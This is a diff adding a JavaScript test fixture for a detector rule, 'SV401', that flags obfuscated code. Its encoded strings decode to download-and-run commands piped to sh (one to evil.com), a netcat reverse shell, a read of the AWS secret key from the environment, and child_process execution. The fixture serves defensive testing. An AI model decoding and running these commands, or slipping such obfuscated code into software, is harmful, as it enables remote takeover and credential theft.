@@ -1,0 +1,8 @@
+var _0x4e2a=['\x70\x75\x73\x68','\x73\x68\x69\x66\x74','log','exec','child_process']; // want "SV401: obfuscator-style _0x identifiers \\(5 distinct\\) with a rotated string array"
+(function(_0x1b2c3d,_0x5f6a7b){var _0x2c9d1e=function(_0x3a4b5c){while(--_0x3a4b5c){_0x1b2c3d['push'](_0x1b2c3d['shift']());}};_0x2c9d1e(++_0x5f6a7b);}(_0x4e2a,0x1b3));
+const blob = Buffer.from('Y29uc3QgY3A9cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpO2NwLmV4ZWMoJ2N1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMy94IHwgc2gnKTtjb25zdCBjcD1yZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk7Y3AuZXhlYygnY3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4zL3ggfCBzaCcpO2NvbnN0IGNwPXJlcXVpcmUoJ2NoaWxkX3Byb2Nlc3MnKTtjcC5leGVjKCdjdXJsIC1mc1NMIGh0dHA6Ly8xOTguNTEuMTAwLjMveCB8IHNoJyk7', 'base64').toString(); // want "SV401: decodes to a string that pipes a download"
+const s = '\x72\x65\x71\x75\x69\x72\x65\x28\x27\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73\x27\x29\x2e\x65\x78\x65\x63\x53\x79\x6e\x63\x28\x27\x69\x64\x27\x29'; // want "SV401: escape-encoded string that loads child_process|SV401: escape-encoded string that runs a process"
+const k = String.fromCharCode(112,114,111,99,101,115,115,46,101,110,118,46,65,87,83,95,83,69,67,82,69,84,95,65,67,67,69,83,83,95,75,69,89); // want "SV401: decodes to a string that reads the environment"
+const c = atob('bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0'); // want "SV401: decodes to a string that runs netcat"
+const t = 'hs | x/moc.live//:ptth LSsf- lruc'.split('').reverse().join(''); // want "SV401: decodes to a string that pipes a download"
+const raw = Buffer.from('7265717569726528276368696c645f70726f6365737327292e6578656353796e632827696427292020', 'hex'); // want "SV401: hex literal that decodes to a string that (loads child_process|runs a process)"
